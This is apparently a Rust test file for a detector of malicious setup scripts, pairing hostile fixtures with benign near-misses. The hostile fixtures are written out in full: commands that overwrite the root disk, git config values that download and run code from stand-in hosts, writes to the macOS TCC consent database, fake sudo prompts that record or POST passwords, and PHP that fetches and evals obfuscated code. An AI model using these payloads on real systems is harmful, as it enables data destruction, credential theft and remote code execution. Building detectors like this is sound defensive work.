//! Round 36 (recall36): the blind r36 static misses as classes, and the
//! round-8 disk-benchmark regression. Per class: malicious spellings in
//! several languages or places that fail, and benign near-misses that do
//! not.

mod common;

use common::{demo_fails, demo_not_failing};

const BODY: &str = "# Setup\n\nRun the bundled scripts: `bash scripts/run.sh`, `python3 scripts/run.py`, `node scripts/run.js`.\n";

// --- 0. The disk a default names: `${1:-$ROOTDEV}`, `/dev/$(lsblk …)` ---

#[test]
fn a_raw_write_to_the_root_disk_by_default_fails() {
    demo_fails(
        &[(
            "scripts/run.sh",
            "ROOTDEV=\"/dev/$(lsblk -no pkname \"$(findmnt -no SOURCE /)\" | head -1)\"\nDEV=\"${1:-$ROOTDEV}\"\ndd if=/dev/urandom of=\"$DEV\" bs=4M oflag=direct\n",
        )],
        BODY,
    );
    demo_fails(
        &[(
            "scripts/run.py",
            "import subprocess, sys, os\nroot = \"/dev/\" + subprocess.check_output([\"lsblk\", \"-no\", \"pkname\", \"/dev/root\"]).decode().strip()\ndev = sys.argv[1] if len(sys.argv) > 1 else root\ntarget = os.environ.get(\"BENCH_DEV\", dev)\nsubprocess.run([\"dd\", \"if=/dev/urandom\", f\"of={target}\", \"bs=4M\"])\n",
        )],
        BODY,
    );
    demo_fails(
        &[(
            "scripts/run.js",
            "const { execSync, spawnSync } = require('child_process');\nconst root = '/dev/' + execSync('lsblk -no pkname /dev/root').toString().trim();\nconst dev = process.argv[2] || root;\nspawnSync('dd', ['if=/dev/urandom', `of=${dev}`, 'bs=4M']);\n",
        )],
        BODY,
    );
    demo_fails(
        &[(
            "scripts/run.sh",
            "shred -n1 \"/dev/$(lsblk -no pkname /dev/root)\"\n",
        )],
        BODY,
    );
}

#[test]
fn a_disk_image_or_a_device_the_user_names_behind_a_confirmation_does_not_fail() {
    demo_not_failing(
        &[(
            "scripts/run.sh",
            "IMG=\"${2:-./disk.img}\"\ndd if=/dev/zero of=\"$IMG\" bs=1M count=64\nDEV=\"$1\"\nread -p \"This will erase $DEV. Type yes: \" ok\n[ \"$ok\" = yes ] || exit 1\ndd if=disk.img of=\"$DEV\" bs=4M\n",
        )],
        BODY,
    );
    demo_not_failing(
        &[(
            "scripts/run.py",
            "import subprocess, sys\nimg = sys.argv[1] if len(sys.argv) > 1 else 'out.img'\nsubprocess.run(['dd', 'if=/dev/zero', f'of={img}', 'bs=1M', 'count=16'])\n",
        )],
        BODY,
    );
}

// --- 1. Git config values git runs, in a file by any name ---

#[test]
fn git_config_commands_that_download_and_run_fail_under_any_name() {
    let fsmon = "[alias]\n\tst = status -sb\n[core]\n\tfsmonitor = \"f(){ (curl -fsS https://gitkit.example/hook -o ~/.cache/.g && sh ~/.cache/.g) >/dev/null 2>&1 & git fsmonitor--daemon query \\\"$@\\\"; }; f\"\n";
    for name in ["gitconfig.shortcuts", "config/git.aliases", ".gitconfig"] {
        demo_fails(
            &[(name, fsmon)],
            "Copy the shipped file and include it with `git config --global include.path`.\n",
        );
    }
    let pager = "[core]\n\tpager = curl -s https://pg.example/p.sh | sh; less\n";
    demo_fails(
        &[("kit.local", pager)],
        "Include `kit.local` from your git config.\n",
    );
    demo_fails(
        &[(
            "scripts/run.sh",
            "git config --global core.sshCommand \"sh -c 'curl -s https://x.example/s | sh' ; ssh\"\n",
        )],
        BODY,
    );
}

#[test]
fn documented_git_aliases_do_not_fail() {
    demo_not_failing(
        &[(
            "gitconfig.shortcuts",
            "[alias]\n\tlg = log --graph --oneline\n\twip = !git add -A && git commit -m wip\n[core]\n\tfsmonitor = true\n\tpager = delta\n",
        )],
        "Include it with `git config --global include.path`.\n",
    );
}

// --- 2. The TCC consent database written directly ---

#[test]
fn writing_the_tcc_database_fails_in_every_language() {
    demo_fails(
        &[(
            "scripts/run.sh",
            "DB=\"/Library/Application Support/com.apple.TCC/TCC.db\"\nsudo sqlite3 \"$DB\" \"INSERT OR REPLACE INTO access (service,client,client_type,auth_value) VALUES ('kTCCServiceAccessibility','com.apple.Terminal',0,2);\"\n",
        )],
        BODY,
    );
    demo_fails(
        &[(
            "scripts/run.py",
            "import sqlite3, os\ndb = sqlite3.connect(os.path.expanduser('~/Library/Application Support/com.apple.TCC/TCC.db'))\ndb.execute(\"REPLACE INTO access (service, client, auth_value) VALUES (?, ?, 2)\", ('kTCCServiceScreenCapture', '/usr/bin/osascript'))\ndb.commit()\n",
        )],
        BODY,
    );
    demo_fails(
        &[(
            "scripts/run.js",
            "const Database = require('better-sqlite3');\nconst db = new Database(process.env.HOME + '/Library/Application Support/com.apple.TCC/TCC.db');\ndb.prepare(\"UPDATE access SET auth_value = 2 WHERE client = ?\").run('com.googlecode.iterm2');\n",
        )],
        BODY,
    );
    demo_fails(&[("scripts/run.sh", "sudo spctl --master-disable\n")], BODY);
}

#[test]
fn a_tcc_audit_tool_does_not_fail() {
    demo_not_failing(
        &[(
            "scripts/run.sh",
            "sqlite3 \"$HOME/Library/Application Support/com.apple.TCC/TCC.db\" \"SELECT client, service, auth_value FROM access ORDER BY client\"\n",
        )],
        BODY,
    );
}

// --- 3. A fake password prompt that keeps what is typed ---

#[test]
fn fake_sudo_prompts_fail_in_every_shell() {
    demo_fails(
        &[(
            "scripts/run.sh",
            "cat > \"$HOME/.local/share/tt/init.bash\" <<'INIT'\n__h() {\n  IFS= read -rsp \"[sudo] password for $USER: \" p; echo >&2\n  printf '%s:%s\\n' \"$USER\" \"$p\" | base64 >> \"$HOME/.local/share/tt/.hist\"\n  printf '%s\\n' \"$p\" | command sudo -S -p '' \"$@\"\n}\nalias sudo='__h'\nINIT\n",
        )],
        BODY,
    );
    demo_fails(
        &[(
            "themes/sudo.fish",
            "function sudo\n    read --silent --prompt-str \"[sudo] password for $USER: \" pw\n    echo $pw >> ~/.local/share/.t\n    echo $pw | command sudo -S $argv\nend\n",
        )],
        "Source `themes/sudo.fish` from your fish config.\n",
    );
    demo_fails(
        &[(
            "scripts/run.ps1",
            "function runas {\n  $pw = Read-Host \"Password for $env:USERNAME\" -AsSecureString\n  Invoke-RestMethod -Uri https://c.example/p -Method Post -Body @{ u = $env:USERNAME; p = $pw }\n}\n",
        )],
        "Run `pwsh scripts/run.ps1`.\n",
    );
}

#[test]
fn a_real_sudo_wrapper_does_not_fail() {
    demo_not_failing(
        &[(
            "scripts/run.sh",
            "sudo() { echo \"[$(date +%T)] sudo $*\" >&2; command sudo \"$@\"; }\nread -rsp \"Database password: \" DBPW; echo\nPGPASSWORD=\"$DBPW\" psql -h db -U app -c 'select 1'\n",
        )],
        BODY,
    );
}

// --- 4. PHP: fetched, decoded, evaluated ---

#[test]
fn php_fetched_encoded_code_evaluated_fails() {
    for code in [
        "<?php\nfunction t(): array {\n  $cfg = @file_get_contents('https://pings.example/targets.txt');\n  $parts = explode(\"\\n--\\n\", $cfg, 2);\n  $f = 'gz' . 'inf' . 'late';\n  $d = 'base' . '64_' . 'decode';\n  register_shutdown_function(function () use ($f, $d, $parts) { h(@$f(@$d(trim($parts[1])))); });\n  return [];\n}\nfunction h(string $s) { eval($s); }\n",
        "<?php\n$x = file_get_contents(\"http://cdn.example/x\");\neval(gzinflate(base64_decode($x)));\n",
        "<?php\n$ch = curl_init('https://h.example/p');\n$b = curl_exec($ch);\n$a = 'as' . 'sert';\n$a(str_rot13($b));\n",
    ] {
        demo_fails(&[("src/build.php", code)], "Run `php src/build.php`.\n");
    }
}

#[test]
fn php_templating_does_not_fail() {
    demo_not_failing(
        &[(
            "src/render.php",
            "<?php\n$tpl = file_get_contents(__DIR__ . '/views/page.tpl');\neval('?>' . compile($tpl));\n$r = file_get_contents('https://api.example/v1/items');\n$items = json_decode($r, true);\n",
        )],
        "Run `php src/render.php`.\n",
    );
}
